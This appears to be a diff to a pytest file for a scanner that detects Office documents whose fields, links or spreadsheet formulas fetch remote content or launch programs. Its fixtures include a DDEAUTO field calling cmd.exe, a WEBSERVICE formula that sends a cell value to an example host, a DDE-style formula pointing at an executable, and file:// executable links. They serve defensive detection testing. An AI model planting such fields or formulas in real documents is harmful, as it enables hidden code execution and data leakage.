@@ -11,6 +11,14 @@ from .filemaking import JPEG, NUMBER, PNG, archive, carried, docx, jpeg, links, 
 
 # ---- documents ----
 
+BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+def told(field):
+    return f"<w:r><w:instrText>{field}</w:instrText></w:r>"
+
+
 TYPES = '<Override PartName="/{}" ContentType="{}"/></Types>'
 
 
@@ -24,6 +32,7 @@ TYPES = '<Override PartName="/{}" ContentType="{}"/></Types>'
         ),
         ({"word/_rels/document.xml.rels": links(outside=[("image", "https://a/b.png")])}, Burden.LOADED),
         ({"word/_rels/document.xml.rels": links(outside=[("hyperlink", "file://server/a")])}, Burden.ACTION),
+        ({"word/_rels/document.xml.rels": links(outside=[("hyperlink", "//server/share/a")])}, Burden.ACTION),
         ({"word/_rels/document.xml.rels": links(outside=[("oleObject", "file:///c:/a.xls")])}, Burden.OBJECT),
         ({"word/_rels/document.xml.rels": links(("aFChunk", "part.html")), "word/part.html": "<p>x</p>"}, Burden.FILE),
         ({"word/_rels/document.xml.rels": links(("control", "activeX/a.xml"))}, Burden.OBJECT),
@@ -44,6 +53,8 @@ def test_what_a_document_must_not_carry_is_found(parts, what):
     [
         '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe /k"/></w:p>',
         "<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT x</w:instrText></w:r></w:p>",
+        f"<w:p>{BEGIN}{told('NUMPAGES')}{END}{BEGIN}{told('LINK Excel.Sheet a.xls')}{END}</w:p>",
+        f"<w:p>{BEGIN}{told('IF 2 &lt; 3 ')}{BEGIN}{told('INCLUDEPICTURE https://a.example/b')}{END}{END}</w:p>",
     ],
 )
 def test_a_field_that_fetches_something_is_found(field):
@@ -74,6 +85,36 @@ def test_a_kind_that_no_part_is_of_is_no_burden():
 
 def test_an_old_drawing_that_is_no_xml_is_read_as_it_is():
     assert places(docx(["Fine"], **{"word/a.vml": f"<xml><br>{NUMBER}</xml>"})) == ["word/a.vml"]
+
+
+def row_with(formula):
+    return f'<sheetData><row r="4"><c r="B4"><f>{formula}</f><v>1</v></c></row></sheetData>'
+
+
+@pytest.mark.parametrize(
+    ("formula", "what"),
+    [
+        ('_xlfn.WEBSERVICE("https://a.example/?"&amp;B2)', Burden.LOADED),
+        ('IF(B2=1,_xlfn.image ("https://a.example/b.png"),"")', Burden.LOADED),
+        ('RTD("server",,"topic")', Burden.LOADED),
+        ("msexcel|'\\..\\a.exe'!'b'", Burden.LOADED),
+        ('HYPERLINK("file://server/a.exe","Read on")', Burden.ACTION),
+    ],
+)
+def test_a_formula_that_fetches_or_starts_something_is_found(formula, what):
+    assert carried(xlsx(["A"], sheet=row_with(formula))) == [(what, "sheet List")]
+
+
+def test_a_formula_that_only_counts_shows_or_leads_is_no_burden():
+    formulas = ("SUM(A1:A3)", '"a|b"&amp;IF(A1=1,"IMAGE(x)","")', 'HYPERLINK("#Cases!A1")', 'HYPERLINK("https://a.b")')
+
+    assert [carried(xlsx(["A"], sheet=row_with(one))) for one in formulas] == [[]] * len(formulas)
+
+
+def test_a_name_of_a_workbook_that_fetches_something_is_found():
+    names = '<definedNames><definedName name="n">_xlfn.WEBSERVICE("https://a.example")</definedName></definedNames>'
+
+    assert carried(xlsx(["A"], more=names)) == [(Burden.LOADED, "xl/workbook.xml")]
 
 
 def test_a_workbook_with_data_from_elsewhere_is_found():
